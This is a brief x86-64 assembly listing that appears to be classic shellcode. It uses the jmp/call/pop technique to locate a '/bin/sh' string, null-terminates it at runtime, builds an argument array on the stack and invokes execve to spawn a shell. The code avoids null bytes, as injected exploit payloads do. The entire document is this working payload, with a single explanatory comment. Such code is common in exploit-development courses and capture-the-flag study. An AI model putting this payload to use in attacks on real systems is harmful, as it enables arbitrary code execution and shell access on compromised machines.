; jmp/call/pop on x86-64: the string's address popped into rdi.
BITS 64
    jmp short getaddr
start:
    pop rdi
    xor eax, eax
    mov [rdi + 7], al
    push rax
    push rdi
    mov rsi, rsp
    cdq
    mov al, 59                  ; execve
    syscall
getaddr:
    call start
    db "/bin/shN"
